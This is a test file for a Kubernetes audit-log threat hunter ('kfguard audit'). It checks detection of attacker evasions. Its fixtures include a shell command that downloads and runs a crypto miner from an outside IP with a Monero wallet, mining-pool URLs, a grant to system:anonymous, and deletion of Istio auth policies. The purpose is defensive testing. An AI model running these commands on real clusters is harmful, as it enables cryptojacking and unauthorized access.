// Evasions an acceptance review of issue 12 found by running `kfguard audit` as an attacker would;
// each test failed before its fix.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { huntAuditLogs } from '../../src/audit/hunt-logs.js';
import { auditRecords } from '../../src/audit/read/audit-records.js';
import type { AuditHuntResult } from '../../src/audit/hunt-log.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { runCli } from '../helpers/cli.js';
import { auditEvent, jsonLines } from './events.js';

const threatRules = ALL_RULES.filter((rule) => rule.meta.sources.includes('audit') && rule.meta.category === 'threat');
const at = (minute: number, second = 0): string => `2026-01-05T10:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}.000000Z`;
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const NS = 'kubeflow-user-a';

async function hunt(events: readonly unknown[], options: { since?: number; until?: number } = {}): Promise<AuditHuntResult> {
  const text = Buffer.from(jsonLines(events));
  async function* chunks(): AsyncGenerator<Buffer> {
    yield text;
  }
  return huntAuditLogs([{ chunks: chunks(), display: 'test.log' }], { rules: threatRules, ...options });
}

const ids = (result: AuditHuntResult): string[] => result.findings.map((f) => `${f.ruleId}:${f.severity}`).sort();
const deployment = (containers: unknown[]): Record<string, unknown> => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'tf-serve', namespace: NS },
  spec: { selector: { matchLabels: { app: 'x' } }, template: { metadata: { labels: { app: 'x' } }, spec: { containers } } },
});

describe('audit evasions (issue 12 review)', () => {
  test('a JSON patch adding a miner to containers/0 of a Deployment is judged (array paths make lists)', async () => {
    const result = await hunt([
      auditEvent({ verb: 'create', resource: 'deployments', apiGroup: 'apps', namespace: NS, name: 'tf-serve', at: at(1), requestObject: deployment([{ name: 'main', image: 'tensorflow/serving:2.14.0' }]) }),
      auditEvent({
        verb: 'patch', resource: 'deployments', apiGroup: 'apps', namespace: NS, name: 'tf-serve', at: at(2),
        requestObject: [
          { op: 'add', path: '/spec/template/spec/containers/0/args', value: ['-o', 'stratum+tcp://pool.supportxmr.com:443', '-u', WALLET] },
          { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'tensorflow/tensorflow:latest' },
          { op: 'add', path: '/spec/template/spec/containers/0/command', value: ['/opt/dns-filter'] },
        ],
      }),
    ]);
    assert.deepEqual(ids(result), ['crypto-miner-workload:critical']);
  });

  test('a JSON patch appending system:anonymous to a binding\'s subjects (/subjects/-) is found', async () => {
    const result = await hunt([
      auditEvent({ verb: 'patch', resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'some-binding', at: at(2), requestObject: [{ op: 'add', path: '/subjects/-', value: { kind: 'User', name: 'system:anonymous', apiGroup: 'rbac.authorization.k8s.io' } }] }),
    ]);
    assert.ok(result.findings.some((f) => f.ruleId === 'audit-rbac-grants-anonymous'), JSON.stringify(ids(result)));
  });
  test('auth chain: deletecollection, and changes and deletes with no earlier state, are judged from the body', async () => {
    const istio = { apiGroup: 'security.istio.io', namespace: 'istio-system' };
    const result = await hunt([
      auditEvent({ verb: 'deletecollection', resource: 'authorizationpolicies', ...istio, at: at(1), auditID: 'delcoll-authz' }),
      auditEvent({ verb: 'deletecollection', resource: 'requestauthentications', ...istio, at: at(1, 5), auditID: 'delcoll-ra' }),
      auditEvent({ verb: 'update', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy', at: at(2), auditID: 'put-authz', requestObject: { apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'istio-ingressgateway-oauth2-proxy', namespace: 'istio-system' }, spec: { action: 'ALLOW', rules: [{}] } } }),
      auditEvent({ verb: 'patch', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy2', at: at(3), auditID: 'patch-authz', requestObject: [{ op: 'replace', path: '/spec/action', value: 'AUDIT' }] }),
      auditEvent({ verb: 'patch', resource: 'requestauthentications', ...istio, name: 'm2m-token-issuer', at: at(4), auditID: 'patch-ra', requestObject: { spec: { jwtRules: [] } } }),
      auditEvent({ verb: 'delete', resource: 'requestauthentications', ...istio, name: 'dex-jwt', at: at(5), auditID: 'delete-ra' }),
      auditEvent({ verb: 'delete', resource: 'authorizationpolicies', apiGroup: 'security.istio.io', namespace: 'kubeflow', name: 'oauth2-proxy-check', at: at(6), auditID: 'delete-named' }),
      // Neither named nor in the gateway's namespace: unknown, medium.
      auditEvent({ verb: 'delete', resource: 'authorizationpolicies', apiGroup: 'security.istio.io', namespace: NS, name: 'ns-owner-access', at: at(7), auditID: 'delete-other' }),
      // A patch that leaves the action alone on an unknown policy says nothing.
      auditEvent({ verb: 'patch', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy', at: at(8), auditID: 'patch-labels', requestObject: { metadata: { labels: { a: 'b' } } } }),
    ]);
    const auth = result.findings.filter((f) => f.ruleId === 'audit-auth-chain-removed');
    const by = (id: string) => auth.find((f) => (f.origin as { auditID?: string } | undefined)?.auditID === id);
    for (const id of ['delcoll-authz', 'delcoll-ra', 'put-authz', 'patch-authz', 'patch-ra', 'delete-ra', 'delete-named']) assert.equal(by(id)?.severity, 'high', `${id}: ${JSON.stringify(auth.map((f) => [(f.origin as { auditID?: string } | undefined)?.auditID, f.severity]))}`);
    assert.equal(by('delete-other')?.severity, 'medium');
    assert.equal(by('patch-labels'), undefined);
    assert.match(by('put-authz')?.evidence.join('\n') ?? '', /judged from the request body/);
    assert.equal(auth.length, 8);
  });
  test('kubectl debug: an ephemeral container that runs a miner is judged', async () => {
    const result = await hunt([
      auditEvent({
        verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: NS, name: 'my-notebook-0', at: at(1),
        requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x', image: 'tensorflow/tensorflow:latest', targetContainerName: 'nb', command: ['sh', '-c', `curl -s http://45.9.148.21/d -o /tmp/dns-filter; chmod +x /tmp/dns-filter; /tmp/dns-filter -o 45.9.148.21:3333 -u ${WALLET}`] }] } },
      }),
    ]);
    const miner = result.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.severity, 'critical', JSON.stringify(ids(result)));
    assert.match(miner?.evidence.join('\n') ?? '', /judged from the patch body alone/);
  });
  test('a miner split across a ConfigMap (script or env) and a Pod is judged as scan judges them together', async () => {
    const script = `#!/bin/sh\ncurl -s http://45.9.148.21/d -o /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter -o 45.9.148.21:3333 -u ${WALLET} --cpu-max-threads-hint=60\n`;
    const configMap = (name: string, data: Record<string, string>) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: NS }, data });
    const pod = (name: string, container: Record<string, unknown>, spec: Record<string, unknown> = {}) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: NS }, spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', ...container }], ...spec } });
    const events = [
      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', at: at(1), requestObject: configMap('boot', { 'run.sh': script }) }),
      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p3', at: at(2), requestObject: pod('p3', { command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot' }] }, { volumes: [{ name: 'b', configMap: { name: 'boot' } }] }) }),
      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, at: at(3), requestObject: configMap('cfg', { POOL: 'stratum+tcp://pool.supportxmr.com:443', W: WALLET }) }),
      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p4', at: at(4), requestObject: pod('p4', { command: ['sh', '-c', '/tmp/dns-filter -o $POOL -u $W'], envFrom: [{ configMapRef: { name: 'cfg' } }] }) }),
      auditEvent({ verb: 'create', resource: 'secrets', namespace: NS, name: 'pool', at: at(5), requestObject: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'pool', namespace: NS }, stringData: { url: 'stratum+tcp://pool.supportxmr.com:443', wallet: WALLET } } }),
      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p5', at: at(6), requestObject: pod('p5', { command: ['sh', '-c', '/tmp/dns-filter -o $P -u $W'], env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'pool', key: 'url' } } }, { name: 'W', valueFrom: { secretKeyRef: { name: 'pool', key: 'wallet' } } }] }) }),
    ];
    const result = await hunt(events);
    const critical = (name: string) => result.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.kind === 'Pod' && f.resource.name === name)?.severity;
    assert.equal(critical('p3'), 'critical', JSON.stringify(result.findings.map((f) => [f.resource.name, f.severity])));
    assert.equal(critical('p4'), 'critical');
    assert.equal(critical('p5'), 'critical');

    // Over the budget the ConfigMap is forgotten, and the pod that reads it says so.
    const text = Buffer.from(jsonLines(events.slice(0, 2)));
    async function* chunks(): AsyncGenerator<Buffer> {
      yield text;
    }
    const tight = await huntAuditLogs([{ chunks: chunks(), display: 't.log' }], { rules: threatRules, limits: { maxConfigBytes: 64 } });
    assert.equal(tight.findings.find((f) => f.resource.name === 'p3'), undefined);
    assert.ok(tight.coverage.some((c) => c.resource?.name === 'p3' && /ConfigMap kubeflow-user-a\/boot.*forgotten/.test(c.reason)), JSON.stringify(tight.coverage));
  });
  test('logs given newest first are read in the order of their first event', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kfguard-order-'));
    const policy = { apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'gate', namespace: 'kubeflow' }, spec: { action: 'CUSTOM', provider: { name: 'ext' }, rules: [{}] } };
    const ref = { resource: 'authorizationpolicies', apiGroup: 'security.istio.io', namespace: 'kubeflow', name: 'gate' };
    writeFileSync(join(dir, 'audit.log'), jsonLines([auditEvent({ verb: 'delete', ...ref, at: at(5) })]));
    writeFileSync(join(dir, 'audit-old.log.gz'), gzipSync(jsonLines([auditEvent({ verb: 'create', ...ref, at: at(1), requestObject: policy })])));
    const inputs = ['audit.log', 'audit-old.log.gz'].map((name) => ({ path: join(dir, name), display: name }));
    const result = await huntAuditLogs(inputs, { rules: threatRules });
    assert.deepEqual(ids(result), ['audit-auth-chain-removed:critical']);
    assert.ok(result.warnings.some((w) => /order of their first event.*audit-old\.log\.gz, audit\.log/.test(w)), JSON.stringify(result.warnings));
  });
  test('writes logged at Metadata level (no body) are counted and warned about; the text report does not say "passes"', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kfguard-meta-'));
    const file = join(dir, 'audit.log');
    const metadata = (spec: Parameters<typeof auditEvent>[0]) => ({ ...auditEvent(spec), level: 'Metadata' });
    writeFileSync(file, jsonLines([
      metadata({ verb: 'create', resource: 'pods', namespace: NS, name: 'm1', at: at(1) }),
      metadata({ verb: 'patch', resource: 'services', namespace: 'kubeflow', name: 'centraldashboard', at: at(2) }),
      // Not a resource hunting judges: not counted.
      metadata({ verb: 'update', resource: 'leases', apiGroup: 'coordination.k8s.io', namespace: 'kube-node-lease', name: 'n1', at: at(3) }),
    ]));
    const run = await runCli(['audit', file, '--format', 'text', '--no-color']);
    assert.doesNotMatch(run.stdout, /passes --fail-on/);
    assert.match(run.stdout, /not a pass: 2 write\(s\) carried no body/);
    assert.match(run.stdout, /warning: 2 write\(s\).*Metadata level/);
    const json = JSON.parse((await runCli(['audit', file, '--format', 'json'])).stdout) as { extensions: { sourceStats: { writesWithoutBody: number } } };
    assert.equal(json.extensions.sourceStats.writesWithoutBody, 2);
  });

  test('requests outside --since/--until are not counted as judged', async () => {
    const events = [0, 5, 10].map((minute) => auditEvent({ verb: 'delete', resource: 'pods', namespace: NS, name: `p${minute}`, at: at(minute) }));
    const result = await hunt(events, { since: Date.parse(at(5)) });
    assert.equal(result.stats.outsideWindow, 1);
    assert.equal(result.stats.judged, 2);
  });
  test('exec into a pod the log never showed created: its role is read from its name, and kubectl debug counts as exec', async () => {
    const exec = (namespace: string, name: string, subresource = 'exec') =>
      auditEvent({ verb: 'create', resource: 'pods', subresource, namespace, name, at: at(8), stage: 'ResponseStarted', code: 101, requestURI: `/api/v1/namespaces/${namespace}/pods/${name}/${subresource}?command=sh&stdin=true&tty=true` });
    const result = await hunt([
      exec(NS, 'my-notebook-0'),
      exec('ray', 'raycluster-kuberay-head-8xk2p'),
      exec(NS, 'sequential-pipeline-x7k2p-1234567890', 'attach'),
      exec('default', 'nginx-abc'),
      exec('kubeflow', 'mysql-0'),
      auditEvent({ verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: NS, name: 'other-notebook-0', at: at(9), requestObject: { spec: { ephemeralContainers: [{ name: 'debugger', image: 'busybox', targetContainerName: 'nb' }] } } }),
    ]);
    const by = (name: string) => result.findings.find((f) => f.ruleId === 'audit-exec-into-ml-pod' && f.resource.name === name);
    assert.equal(by('my-notebook-0')?.severity, 'medium');
    assert.match(by('my-notebook-0')?.message ?? '', /a notebook pod by its name/);
    assert.match(by('raycluster-kuberay-head-8xk2p')?.message ?? '', /a ray pod by its name/);
    assert.match(by('sequential-pipeline-x7k2p-1234567890')?.message ?? '', /attach into pod .* a pipeline pod by its name/);
    assert.equal(by('nginx-abc')?.severity, 'low');
    assert.equal(by('mysql-0')?.severity, 'low');
    assert.match(by('other-notebook-0')?.message ?? '', /debug container \(pods\/ephemeralcontainers\) into pod other-notebook-0/);
  });
  test('a burst read out of order states its real spread; --since after --until is a usage error', async () => {
    const times = [[4, 119], [0, 0], [3, 89], [1, 29], [2, 59]] as const;
    const result = await hunt(times.map(([i, second]) => {
      const namespace = `kubeflow-user-${i}`;
      return auditEvent({ verb: 'create', user: 'system:serviceaccount:kubeflow:argo', resource: 'pods', namespace, name: `s-${i}`, at: at(Math.floor(second / 60), second % 60), requestObject: { apiVersion: 'v1', kind: 'Pod', metadata: { name: `s-${i}`, namespace, labels: { 'workflows.argoproj.io/workflow': 'wf-1' } }, spec: { containers: [{ name: 'main', image: 'python:3.11' }] } } });
    }));
    const burst = result.findings.find((f) => f.ruleId === 'audit-pipeline-pod-burst');
    assert.match(burst?.message ?? '', /within 119 s/);
    assert.match(burst?.evidence.join('\n') ?? '', /to 2026-01-05T10:01:59/);
    const run = await runCli(['audit', '-', '--since', '2026-01-05T11:00:00Z', '--until', '2026-01-05T10:00:00Z'], { stdin: '' });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /--since must be earlier than --until/);
  });
  test('a string, number or null member of a pretty-printed EventList is counted as malformed', async () => {
    const event = auditEvent({ verb: 'delete', resource: 'pods', namespace: NS, name: 'p', at: at(1) });
    const text = Buffer.from(JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [event, 'a "quoted", string', 42, null, { ...event, auditID: 'second' }] }, null, 2));
    async function* chunks(): AsyncGenerator<Buffer> {
      yield text;
    }
    const result = await huntAuditLogs([{ chunks: chunks(), display: 'list.json' }], { rules: threatRules });
    assert.equal(result.stats.malformed, 3, JSON.stringify(result.errors));
    assert.equal(result.stats.events, 2);
  });
  test('a one-line EventList longer than the line cap is read member by member, not dropped whole', async () => {
    const items = Array.from({ length: 40 }, (_, i) => auditEvent({ verb: 'delete', resource: 'pods', namespace: NS, name: `p${i}`, at: at(1) }));
    const text = Buffer.from(JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items }));
    assert.ok(text.length > 8 * 2048);
    async function* chunks(): AsyncGenerator<Buffer> {
      for (let i = 0; i < text.length; i += 1000) yield text.subarray(i, i + 1000);
    }
    const records = [];
    for await (const record of auditRecords(chunks(), { maxEventBytes: 2048 })) records.push(record);
    assert.equal(records.filter((r) => r.type === 'malformed').length, 0, JSON.stringify(records.filter((r) => r.type === 'malformed')));
    assert.equal(records.filter((r) => r.type === 'value').length, 40);
  });
});
